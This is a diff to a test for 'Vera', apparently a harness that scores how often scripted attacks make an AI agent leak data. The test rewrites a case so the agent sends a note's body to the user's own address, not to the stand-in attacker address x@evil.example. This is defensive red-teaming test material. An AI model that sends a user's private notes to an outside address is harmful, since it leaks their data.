@@ -232,8 +232,10 @@ describe('watch mode', () => {
       const tables = () => out.split('Vera — attack success rate').length - 1;
       await waitFor(() => tables() >= 1, 'the first run');
       expect(out).toMatch(/all\s+0\/2 0%\s+2\/2 100%\s+2\/2 100%\s+4\/6 67%/);
-      // Make case A's verifier unsatisfiable: its attacks no longer count as violations.
-      const edited = source.replace('id: notes-leak', 'id: case-a').replace('egress: { secret: CODE }', 'egress: { secret: CODE, channel: carrier-pigeon }');
+      // Edit case A so its attacks no longer succeed (the scripted agent posts to the user's own
+      // address instead); its verifier and witnesses stay valid, so the file still loads.
+      const edited = source.replace('id: notes-leak', 'id: case-a').replaceAll('{ to: x@evil.example, text: "<<read_note.body>>" }', '{ to: me@corp.example, text: "<<read_note.body>>" }');
+      expect(edited).not.toBe(source.replace('id: notes-leak', 'id: case-a'));
       await writeFile(join(dir, 'cases/a.case.yaml'), edited);
       await waitFor(() => tables() >= 2, 'the rerun');
       const second = out.slice(out.lastIndexOf('Vera — attack success rate'));
